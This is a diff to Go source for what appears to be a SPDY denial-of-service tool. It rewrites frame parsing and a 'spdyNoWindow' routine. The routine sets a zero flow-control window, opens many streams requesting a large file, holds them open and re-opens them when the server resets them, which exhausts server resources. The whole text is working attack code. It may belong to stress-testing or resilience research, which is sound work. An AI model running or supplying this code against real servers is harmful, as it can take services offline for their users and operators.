@@ -5,7 +5,6 @@ import (
 	"compress/flate"
 	"context"
 	"encoding/binary"
-	"errors"
 	"io"
 	"math/rand/v2"
 	"net"
@@ -119,25 +118,40 @@ func (c *spdyConn) open(b []byte, flags byte, method, path string, more ...strin
 	return controlFrame(b, spdySynStream, flags, u32(id, 0), []byte{0, 0}, c.request(method, path, more...))
 }
 
+// spdyFrame is what an attacker looks at of a frame that p sent.
+type spdyFrame struct {
+	kind  uint16 // 0 of DATA
+	flags byte
+	id    uint32 // of a stream, or PING; else meaningless
+}
+
 // read reads frames until the connection ends, and answers PINGs of p.
-func (c *spdyConn) read(on func(head [8]byte)) error {
+func (c *spdyConn) read(on func(spdyFrame)) error {
 	for {
 		var head [8]byte
 		if _, err := io.ReadFull(c, head[:]); err != nil {
 			return err
 		}
-		length := int64(binary.BigEndian.Uint32(head[4:]) & 0xffffff)
-		if head[0]&0x80 != 0 && head[3] == spdyPing && length == 4 {
-			id := make([]byte, 4)
-			if _, err := io.ReadFull(c, id); err != nil {
-				return err
+		left := int64(binary.BigEndian.Uint32(head[4:]) & 0xffffff)
+		f := spdyFrame{flags: head[4], id: binary.BigEndian.Uint32(head[:])}
+		if head[0]&0x80 != 0 {
+			f.kind, f.id = binary.BigEndian.Uint16(head[2:]), 0
+			if left >= 4 {
+				var id [4]byte
+				if _, err := io.ReadFull(c, id[:]); err != nil {
+					return err
+				}
+				f.id, left = binary.BigEndian.Uint32(id[:]), left-4
 			}
-			c.send(controlFrame(nil, spdyPing, 0, id))
-		} else if _, err := io.CopyN(io.Discard, c, length); err != nil {
+		}
+		if _, err := io.CopyN(io.Discard, c, left); err != nil {
 			return err
 		}
+		if f.kind == spdyPing {
+			c.send(controlFrame(nil, spdyPing, 0, u32(f.id)))
+		}
 		if on != nil {
-			on(head)
+			on(f)
 		}
 	}
 }
@@ -270,25 +284,29 @@ func spdyNoWindow(ctx context.Context, t *target) {
 		if err != nil {
 			return err
 		}
+		held := newHoldings(t)
 		b := controlFrame(nil, spdySettings, 0, u32(1, 7, 0))
-		for range holdStreams {
-			b = c.open(b, spdyFin, "GET", "/"+bigFile)
-		}
-		if err := c.send(b); err != nil {
-			return err
-		}
-		t.count("held", holdStreams)
-		c.read(func(head [8]byte) {
-			if head[0]&0x80 == 0 || head[3] != spdyRstStream {
-				return
+		// Ends with ctx, which ends with this connection's turn.
+		go held.keep(ctx, func(n int) (ids []uint32) {
+			for range n {
+				ids = append(ids, c.next)
+				b = c.open(b, spdyFin, "GET", "/"+bigFile)
 			}
-			t.count("resets", 1)
-			t.count("held", 1)
-			c.mu.Lock()
-			again := c.open(nil, spdyFin, "GET", "/"+bigFile)
-			c.mu.Unlock()
-			c.send(again)
+			c.send(b)
+			b = b[:0]
+			return ids
 		})
-		return errors.New("closed")
+		return c.read(func(f spdyFrame) {
+			switch f.kind {
+			case spdyRstStream:
+				t.count("resets", 1)
+				held.end(f.id)
+			case spdySynReply:
+				t.count("heads", 1)
+			}
+			if f.flags&spdyFin != 0 {
+				held.end(f.id)
+			}
+		})
 	})
 }
